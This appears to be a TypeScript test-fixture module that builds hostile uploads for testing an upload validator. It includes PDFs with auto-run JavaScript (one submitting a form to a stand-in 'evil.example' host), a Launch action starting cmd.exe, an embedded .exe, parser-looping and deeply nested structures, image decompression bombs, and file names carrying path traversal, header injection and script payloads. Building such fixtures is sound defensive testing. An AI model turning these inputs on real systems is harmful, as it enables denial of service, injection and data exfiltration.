/**
 * Hostile uploads, built in code (pdf-lib, raw PDF syntax, hand-made image headers) so no binary
 * attack file is ever committed. Each builder says what it is and why it is hostile.
 */
import { crc32, createDeflate, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import sharp from 'sharp';

/** A normal one-page text PDF (the base that the hostile variants add to). */
async function basePdf(lines: string[] = ['Certificate of Completion', 'Hostile Input Academy']) {
  const doc = await PDFDocument.create({ updateMetadata: false });
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 842]);
  [...lines, `ref ${Math.random().toString(36).slice(2)}`].forEach((l, i) => page.drawText(l, { x: 50, y: 780 - i * 24, size: 14, font }));
  return doc;
}

/** /OpenAction runs JavaScript when the file is opened. Saved with object streams (the action is compressed). */
export async function pdfWithOpenActionJavaScript(): Promise<Uint8Array> {
  const doc = await basePdf();
  const action = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("pwned")') });
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  return doc.save({ useObjectStreams: true });
}

/** Document-level JavaScript in the /Names tree (runs on open in Acrobat), classic xref layout. */
export async function pdfWithNamedJavaScript(): Promise<Uint8Array> {
  const doc = await basePdf();
  const action = doc.context.register(doc.context.obj({ S: 'JavaScript', JS: PDFString.of('this.submitForm("https://evil.example")') }));
  const tree = doc.context.obj({ Names: [PDFString.of('init'), action] });
  doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: doc.context.register(tree) }));
  return doc.save({ useObjectStreams: false });
}

/** /OpenAction with /Launch: asks the viewer to start a program. */
export async function pdfWithLaunchAction(): Promise<Uint8Array> {
  const doc = await basePdf();
  const action = doc.context.obj({ S: 'Launch', F: PDFString.of('cmd.exe'), Win: { F: PDFString.of('cmd.exe'), P: PDFString.of('/c calc') } });
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  return doc.save();
}

/** An attachment (/EmbeddedFiles name tree + /EmbeddedFile stream), e.g. a payload riding along. */
export async function pdfWithEmbeddedFile(): Promise<Uint8Array> {
  const doc = await basePdf();
  await doc.attach(Buffer.from('MZ pretend this is a program'), 'invoice.exe', { mimeType: 'application/octet-stream', description: 'attachment' });
  return doc.save();
}

/** `pages` pages sharing one content stream: a valid PDF, small on disk, huge to process. */
export async function pdfWithPages(pages: number): Promise<Uint8Array> {
  const doc = await basePdf();
  const first = doc.getPage(0);
  const contents = first.node.get(PDFName.of('Contents'))!;
  const resources = first.node.get(PDFName.of('Resources'))!;
  for (let p = 1; p < pages; p++) {
    const page = doc.addPage([595, 842]);
    page.node.set(PDFName.of('Contents'), contents);
    page.node.set(PDFName.of('Resources'), resources);
  }
  return doc.save({ objectsPerTick: Infinity });
}

/** A real PDF cut in the middle of its content stream: no xref, no trailer, no %%EOF. */
export async function truncatedPdf(): Promise<Uint8Array> {
  const bytes = await (await basePdf()).save({ useObjectStreams: false });
  const raw = Buffer.from(bytes).toString('latin1');
  const streamAt = raw.indexOf('stream\n', raw.indexOf('/Length'));
  return bytes.subarray(0, streamAt + 20);
}

/**
 * A PDF from raw object bodies (object n = bodies[n-1]) with a correct classic xref, so only what
 * the test means to break is broken. `trailer` is added to the trailer dictionary.
 */
export function rawPdf(bodies: string[], opts: { trailer?: string; root?: number; xref?: (offsetOfXref: number) => string } = {}): Uint8Array {
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  bodies.forEach((body, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xrefAt = out.length;
  if (opts.xref) out += opts.xref(xrefAt);
  else {
    out += `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n`;
    for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`;
    out += `trailer\n<< /Size ${bodies.length + 1} /Root ${opts.root ?? 1} 0 R ${opts.trailer ?? ''} >>\n`;
  }
  out += `startxref\n${xrefAt}\n%%EOF\n`;
  return new Uint8Array(Buffer.from(out, 'latin1'));
}

const CONTENT = 'BT /F1 24 Tf 50 700 Td (Certificate of Completion) Tj ET';
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const stream = (s: string) => `<< /Length ${s.length} >>\nstream\n${s}\nendstream`;

/** The page tree's /Kids contains the /Pages node itself (a reader walking it never ends). */
export function pdfPagesCycle(): Uint8Array {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream(CONTENT),
    FONT,
  ]);
}

/** Two intermediate /Pages nodes that are each other's kid and parent. */
export function pdfParentLoop(): Uint8Array {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [6 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 6 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream(CONTENT),
    FONT,
    '<< /Type /Pages /Parent 7 0 R /Kids [3 0 R 7 0 R] /Count 1 >>',
    '<< /Type /Pages /Parent 6 0 R /Kids [6 0 R] /Count 1 >>',
  ]);
}

/** A page whose /Parent chain loops (page → 3 → 4 → 3 …) though the tree from the root is finite. */
export function pdfPageParentCycle(): Uint8Array {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [5 0 R] /Count 1 >>',
    '<< /Type /Pages /Parent 4 0 R /Kids [] /Count 0 >>',
    '<< /Type /Pages /Parent 3 0 R /Kids [] /Count 0 >>',
    '<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] /Contents 6 0 R /Resources << /Font << /F1 7 0 R >> >> >>',
    stream(CONTENT),
    FONT,
  ]);
}

/** A trailer whose /Prev points at its own xref section (readers following /Prev loop forever). */
export function pdfXrefPrevLoop(): Uint8Array {
  const bodies = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream(CONTENT),
    FONT,
  ];
  // Offsets are recomputed inside xref() from the layout rawPdf writes.
  let offsets: number[] = [];
  let text = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  bodies.forEach((b, i) => {
    offsets.push(text.length);
    text += `${i + 1} 0 obj\n${b}\nendobj\n`;
  });
  return rawPdf(bodies, {
    xref: (at) =>
      `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}` +
      `trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R /Prev ${at} >>\n`,
  });
}

/** An object nested `depth` arrays deep (recursive-descent parsers overflow their stack). */
export function pdfDeepArrays(depth = 100_000): Uint8Array {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /Deep 6 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream(CONTENT),
    FONT,
    '['.repeat(depth) + ']'.repeat(depth),
  ]);
}

/** The same with dictionaries: << /A << /A << … >> >> >>. */
export function pdfDeepDicts(depth = 50_000): Uint8Array {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /Deep 6 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream(CONTENT),
    FONT,
    '<< /A '.repeat(depth) + '>> '.repeat(depth),
  ]);
}

/** A page tree whose /Count says 1 while it holds `pages` pages (readers trusting /Count are fooled). */
export function pdfLyingCount(pages = 5000): Uint8Array {
  const kids = Array.from({ length: pages }, () => '3 0 R').join(' ');
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count 1 >>`,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream(CONTENT),
    FONT,
  ]);
}

// ---- images -------------------------------------------------------------------------------------

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(td) >>> 0);
  return Buffer.concat([len, td, crc]);
}

function ihdr(width: number, height: number): Buffer {
  const h = Buffer.alloc(13);
  h.writeUInt32BE(width, 0);
  h.writeUInt32BE(height, 4);
  h[8] = 8; // bit depth
  h[9] = 0; // greyscale
  return h;
}

const PNG_SIG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A PNG header claiming width × height with a few bytes of pixel data (a lie in the header). */
export function pngHeaderBomb(width = 100_000, height = 100_000): Uint8Array {
  return new Uint8Array(Buffer.concat([PNG_SIG, pngChunk('IHDR', ihdr(width, height)), pngChunk('IDAT', deflateSync(Buffer.alloc(1024))), pngChunk('IEND', Buffer.alloc(0))]));
}

/**
 * A real pixel bomb: a complete, valid greyscale PNG of width × height black pixels. Deflate packs
 * ~1000:1, so 20 000 × 20 000 (400 Mpx, 400 MB decoded) is ~400 KB. Built by streaming, so the
 * test process never holds the decoded image either.
 */
export async function pngPixelBomb(width = 20_000, height = 20_000): Promise<Uint8Array> {
  const row = Buffer.alloc(width + 1); // filter byte 0 + black pixels
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (c: Buffer) => parts.push(c));
  const done = new Promise<void>((r) => deflate.on('end', () => r()));
  for (let y = 0; y < height; y++) {
    if (!deflate.write(row)) await new Promise((r) => deflate.once('drain', r));
  }
  deflate.end();
  await done;
  return new Uint8Array(Buffer.concat([PNG_SIG, pngChunk('IHDR', ihdr(width, height)), pngChunk('IDAT', Buffer.concat(parts)), pngChunk('IEND', Buffer.alloc(0))]));
}

/** A small real JPEG whose SOF header is rewritten to claim 65 000 × 65 000 pixels. */
export async function jpegHeaderBomb(): Promise<Uint8Array> {
  const jpg = Buffer.from(await sharp({ create: { width: 16, height: 16, channels: 3, background: '#888' } }).jpeg().toBuffer());
  for (let i = 2; i + 9 < jpg.length; ) {
    const marker = jpg[i + 1];
    if (marker >= 0xc0 && marker <= 0xc2) {
      jpg.writeUInt16BE(65_000, i + 5); // height
      jpg.writeUInt16BE(65_000, i + 7); // width
      return new Uint8Array(jpg);
    }
    i += 2 + jpg.readUInt16BE(i + 2);
  }
  throw new Error('no SOF marker');
}

/** A small real lossy WEBP whose VP8 frame header claims 16 383 × 16 383 pixels (the format's maximum). */
export async function webpHeaderBomb(): Promise<Uint8Array> {
  const webp = Buffer.from(await sharp({ create: { width: 16, height: 16, channels: 3, background: '#888' } }).webp({ lossless: false }).toBuffer());
  const at = webp.indexOf(Buffer.from([0x9d, 0x01, 0x2a])); // VP8 start code; width and height follow
  if (webp.toString('latin1', 12, 16) !== 'VP8 ' || at < 0) throw new Error('not a simple lossy WEBP');
  webp.writeUInt16LE(16_383, at + 3);
  webp.writeUInt16LE(16_383, at + 5);
  return new Uint8Array(webp);
}

/** A real PNG (so a name ending in .pdf lies about it). */
export async function smallPng(): Promise<Uint8Array> {
  return new Uint8Array(await sharp({ create: { width: 40, height: 30, channels: 3, background: '#3366cc' } }).png().toBuffer());
}

/** A name with a NUL byte (C string terminator: "diploma.pdf" to some code, ".exe" to other). */
export const NUL_NAME = 'diploma.pdf\u0000.exe';

/** Upload names that attack paths, terminals and headers. */
export const HOSTILE_NAMES: Record<string, string> = {
  'parent traversal': '../../etc/passwd.pdf',
  'windows traversal': '..\\..\\boot.ini.pdf',
  'absolute path': '/etc/shadow.pdf',
  'windows absolute path': 'C:\\Windows\\System32\\drivers\\etc\\hosts.pdf',
  '1,000 characters': `${'a'.repeat(996)}.pdf`,
  'RTL override': '\u202Efdp.exe',
  'quotes and newlines': 'evil";\r\nSet-Cookie: pwned=1; x=".pdf',
  'header injection only': 'a\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>.pdf',
  'dots only': '....pdf',
  'HTML': '<img src=x onerror=alert(1)>.pdf',
};
